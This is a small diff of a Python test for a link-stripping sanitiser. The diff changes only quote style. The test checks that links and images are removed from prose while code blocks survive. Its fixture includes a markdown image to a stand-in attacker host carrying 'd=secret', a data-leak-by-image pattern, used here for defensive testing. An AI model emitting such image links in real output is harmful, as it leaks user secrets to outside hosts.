@@ -32,7 +32,7 @@ def test_only_retrieved_markers_survive() -> None:
 def test_links_and_images_in_prose_are_removed_but_code_is_kept() -> None:
     answer = (
         "See ![pixel](https://evil.example/x.png?d=secret) and [docs](http://evil.example/) "
-        "or https://evil.example/raw.\n```python\nArm.connect(\"http://localhost:7020\")\n```\n"
+        'or https://evil.example/raw.\n```python\nArm.connect("http://localhost:7020")\n```\n'
         "Inline `curl http://localhost:7020/status` works."
     )
     cleaned = strip_links(answer)
